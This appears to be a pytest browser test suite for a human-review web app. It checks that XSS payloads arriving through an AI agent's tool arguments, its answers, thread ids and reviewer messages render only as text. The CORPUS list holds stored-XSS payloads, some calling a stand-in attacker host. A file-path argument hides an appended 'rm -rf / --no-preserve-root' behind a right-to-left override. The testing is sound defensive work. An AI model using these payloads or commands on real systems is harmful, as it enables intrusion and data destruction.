"""Stored XSS rendered in a real browser (reliability.md cases 33, 38, 39, 40, 41).

The corpus travels through every way untrusted text enters: tool arguments proposed by
the model, the model's own answer, the thread id, and a reviewer's reject message. It is
looked at on every surface (the inbox with the row pushed live, the item page, the thread
page, the audit log, the admin), in Debian's Chromium. Nothing may run: no dialog, no
`window.__xss`, no element or attribute from the corpus in the DOM, no request to the
attacker's host, no CSP violation; the corpus is shown as text.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from beamweaver_core.runtime import service
from bench.hostile.agents import agent_input
from reviews.models import ReviewItem
from tests.browser.conftest import Session, close_checked
from tests.reviews.conftest import make_reviewer
from tests.support.legacy import unchecked_thread_ids
from tests.support.waiting import wait_for

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ATTACKER = "attacker.invalid"
WAIT = 15_000
CORPUS = [
    "<script>window.__xss='script'</script>",
    f"\"><img src=x onerror=\"window.__xss='img';fetch('//{ATTACKER}/img')\">",
    "</script><script>window.__xss='breakout'</script>",
    "javascript:window.__xss='js-url'",
    "<a href=\"javascript:window.__xss='link'\">click</a>",
    f'<div hx-get="http://{ATTACKER}/hx" hx-trigger="load">hx</div>',
    "<button hx-on:click=\"window.__xss='hx-on'\" hx-on::load=\"window.__xss='hx-load'\">b</button>",
    "{{ request }}{% debug %}{{ 7|add:7 }}",
    "<svg onload=\"window.__xss='svg'\"></svg>",
    f'<iframe src="http://{ATTACKER}/frame"></iframe>',
    f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/">',
    '<div id="inbox-rows" hx-swap-oob="true">pwned-rows</div>',
    '<form id="decision-form" hx-swap-oob="outerHTML">pwned-form</form>',
]
INJECTED = (
    "[onerror], [onload], iframe, a[href^='javascript:' i], [hx-get*='attacker'], "
    "[hx-on\\:click], [hx-on\\:\\:load], meta[http-equiv]"
)


class Watched(Session):
    """A browser session that also refuses (and records) every request to the attacker."""

    def __init__(self, browser: Any, base: str, user: Any) -> None:
        super().__init__(browser, base, user)
        self.attacker: list[str] = []
        self.posts: list[dict[str, str]] = []
        self.context.route(f"**/*{ATTACKER}*", self._refuse)
        self.page.on("request", self._record_post)

    def _refuse(self, route: Any) -> None:
        self.attacker.append(route.request.url)
        route.abort()

    def _record_post(self, request: Any) -> None:
        if request.method == "POST":
            self.posts.append(request.headers)

    def assert_inert(self, surface: str) -> None:
        page = self.page
        page.wait_for_timeout(300)  # let anything that would run, run
        assert page.evaluate("window.__xss") is None, surface
        assert page.evaluate(f"document.querySelectorAll({INJECTED!r}).length") == 0, surface
        assert page.evaluate("document.querySelectorAll('#inbox-rows').length") <= 1, surface
        assert "pwned" not in page.evaluate(
            "[...document.querySelectorAll('body *')].filter(e => e.children.length === 0"
            " && e.textContent === 'pwned-rows' || e.textContent === 'pwned-form').length"
            " ? 'pwned' : ''"
        )
        assert (self.dialogs, self.attacker, self.problems()) == ([], [], {}), surface


@pytest.fixture
def watched(browser: Any, server: str) -> Iterator[Any]:
    opened: list[Watched] = []

    def open_session(user: Any) -> Watched:
        session = Watched(browser, server, user)
        opened.append(session)
        return session

    yield open_session
    close_checked(opened)


def test_the_corpus_runs_nowhere_and_reads_as_text(watched: Any, server: str) -> None:
    alice = watched(make_reviewer("alice"))
    root = watched(make_reviewer("root", is_staff=True, is_superuser=True))
    page = alice.open("/")
    alice.wait_live()
    text = "\n".join(CORPUS)
    thread_id = "xss-\"><svg onload=window.__xss='thread'>"
    email = {"to": CORPUS[1][:200], "subject": CORPUS[0], "body": text}
    with unchecked_thread_ids():  # a thread id from before the rule, or the checkpointer's
        service.start_run(
            "ledger_agent",
            agent_input([{"name": "send_email", "args": email}], say=text),
            thread_id=thread_id,
        )

    page.wait_for_selector("#inbox-rows > li", timeout=WAIT)  # pushed live (case 40)
    alice.assert_inert("inbox with a pushed row")
    item = wait_for(lambda: ReviewItem.objects.filter(thread_id=thread_id).first())
    page.goto(f"{server}/items/{item.pk}/")
    alice.wait_live()
    alice.assert_inert("item")
    shown = page.inner_text("#decision-form")
    assert all(line.splitlines()[0][:30] in shown for line in CORPUS[:4])

    page.check("input[name=d0-type][value=reject]")
    page.fill("#d0-message", text)
    page.click("#decision-form button[type=submit]:has-text('Submit decision')")
    page.wait_for_selector("#item-status:has-text('Decided by you')", timeout=WAIT)
    alice.assert_inert("item after the decision")
    assert alice.posts and all("x-csrftoken" in headers for headers in alice.posts)  # case 38

    page.click("text=Watch the thread")
    page.wait_for_selector('#thread-status [data-status="completed"]', timeout=WAIT)
    alice.assert_inert("thread")
    assert "window.__xss='breakout'" in page.inner_text("body")  # the model's answer, as text
    page.goto(f"{server}/audit/")
    alice.assert_inert("audit")
    for path in (
        "/admin/reviews/reviewitem/",
        f"/admin/reviews/reviewitem/{item.pk}/change/",
        "/admin/reviews/auditevent/",
    ):
        root.open(path)
        root.assert_inert(f"admin {path}")


def test_pages_with_decision_buttons_cannot_be_framed(watched: Any, server: str) -> None:
    """Case 41: a page of another origin framing the item page gets nothing rendered."""
    alice = watched(make_reviewer("alice"))
    run = service.start_run(
        "ledger_agent", agent_input([{"name": "notify", "args": {"text": "hi"}}])
    )
    item = wait_for(lambda: ReviewItem.objects.filter(thread_id=run.thread_id).first())
    page = alice.page
    alice.expect_errors("frame-ancestors")  # the refusal this test is about

    page.set_content(
        f'<iframe id="frame" src="{server}/items/{item.pk}/" width="800" height="600"></iframe>'
    )
    page.wait_for_timeout(1500)

    framed = [frame for frame in page.frames if frame != page.main_frame]
    assert framed and all(
        not frame.url.startswith(server) or frame.child_frames == [] for frame in framed
    )
    assert all(
        "Submit decision" not in (frame.content() if frame.url.startswith("http") else "")
        for frame in framed
    )
    assert alice.dialogs == []


def test_invisible_characters_and_long_values_are_shown_honestly(watched: Any, server: str) -> None:
    """Case 33: a right-to-left override and a zero-width space are shown as markers; a
    200 KB value with the dangerous part at its end is never cut silently: its end is
    shown before expanding, and expanding shows all of it."""
    alice = watched(make_reviewer("alice"))
    tail = "; rm -rf / --no-preserve-root"
    args = {"path": "/srv/reports/\u202egnp.exe\u200b" + "a" * 200_000 + tail}
    run = service.start_run("ledger_agent", agent_input([{"name": "remove_file", "args": args}]))
    item = wait_for(lambda: ReviewItem.objects.filter(thread_id=run.thread_id).first())
    page = alice.open(f"/items/{item.pk}/")
    page.wait_for_selector("#decision-form")

    summary = page.inner_text("details.long-value summary")
    page.click("details.long-value summary")
    full = page.inner_text("details.long-value pre")

    assert "200" in summary and tail.strip() in summary
    assert "[U+202E]" in full and "[U+200B]" in full
    assert full.endswith(tail.strip()) and full.count("a") >= 200_000
    alice.assert_inert("item with a long value")
